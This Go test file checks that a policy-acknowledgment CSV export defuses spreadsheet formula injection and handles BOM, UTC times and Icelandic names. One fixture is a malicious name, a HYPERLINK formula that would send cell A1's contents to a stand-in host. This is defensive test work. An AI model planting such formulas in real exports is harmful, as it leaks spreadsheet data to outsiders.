package duty

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/handbok/handbok/internal/people"
	"github.com/handbok/handbok/internal/store"
)

// TestWriteCSV: a BOM, then a header of English field names and a row per person and
// policy, Icelandic letters as they are, times in UTC, and cells that a spreadsheet
// would run as formulas defused.
func TestWriteCSV(t *testing.T) {
	staff := []people.Person{
		{Email: "thora@x.is", Name: "Þóra Ævarsdóttir", Workplaces: []string{"laug"}, Start: day(t, "2026-01-01")},
		{Email: "evil@x.is", Name: `=HYPERLINK("http://x.example/?"&A1,"Smelltu")`, Workplaces: []string{"laug"}},
	}
	ps := []Policy{
		{ID: "thjonusta", Title: "Þjónustustefna, ný", Version: 2, Within: 14, Since: at(t, "2026-01-01T09:00:00Z")},
		{ID: "laug/oryggi", Title: "-Öryggi", Workplace: "laug", Version: 1, Within: 30, Since: at(t, "2025-12-01T09:00:00Z")},
	}
	acks := []store.Acknowledgment{
		{Email: "thora@x.is", Policy: "thjonusta", Version: 1, At: time.Date(2026, 1, 5, 10, 30, 0, 0, time.FixedZone("", -3600))},
		{Email: "thora@x.is", Policy: "laug/oryggi", Version: 1, At: at(t, "2026-01-06T08:00:00Z")},
	}
	var b bytes.Buffer
	if err := Matrix(staff, ps, acks, "laug", nil, at(t, "2026-03-01T00:00:00Z")).WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	data := b.Bytes()
	if !bytes.HasPrefix(data, []byte{0xef, 0xbb, 0xbf}) {
		t.Fatalf("no BOM: %q", data[:min(len(data), 10)])
	}
	records, err := csv.NewReader(bytes.NewReader(data[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"email", "name", "policy_id", "policy_title", "current_version", "acknowledged_version", "acknowledged_at", "due", "state", "overdue"},
		// No start day: due from when each version was first served, overdue since 31
		// December, longer than Þóra, so first.
		{"evil@x.is", `'=HYPERLINK("http://x.example/?"&A1,"Smelltu")`, "thjonusta", "Þjónustustefna, ný", "2", "", "", "2026-01-15", "never", "yes"},
		{"evil@x.is", `'=HYPERLINK("http://x.example/?"&A1,"Smelltu")`, "laug/oryggi", "'-Öryggi", "1", "", "", "2025-12-31", "never", "yes"},
		// Þóra is overdue with thjonusta (an older version) since 15 January.
		{"thora@x.is", "Þóra Ævarsdóttir", "thjonusta", "Þjónustustefna, ný", "2", "1", "2026-01-05T11:30:00Z", "2026-01-15", "older", "yes"},
		{"thora@x.is", "Þóra Ævarsdóttir", "laug/oryggi", "'-Öryggi", "1", "1", "2026-01-06T08:00:00Z", "2026-01-31", "current", "no"},
	}
	if len(records) != len(want) {
		t.Fatalf("records:\n%q\nwant\n%q", records, want)
	}
	for i := range want {
		if !slices.Equal(records[i], want[i]) {
			t.Errorf("record %d:\n got %q\nwant %q", i, records[i], want[i])
		}
	}
	if !strings.HasSuffix(string(data), "\r\n") {
		t.Errorf("lines do not end in CRLF: %q", data[len(data)-10:])
	}
}

// TestDefuse: each character that starts a formula is defused, and only at the start.
func TestDefuse(t *testing.T) {
	for in, want := range map[string]string{
		"=1+2": "'=1+2", "+354 460 4900": "'+354 460 4900", "-2": "'-2", "@SUM(A1)": "'@SUM(A1)",
		"\t=1": "'\t=1", "\r=1": "'\r=1", "Anna=Jón": "Anna=Jón", "": "", "Ásta": "Ásta", "'=1": "'=1",
	} {
		if got := defuse(in); got != want {
			t.Errorf("defuse(%q) = %q, want %q", in, got, want)
		}
	}
}
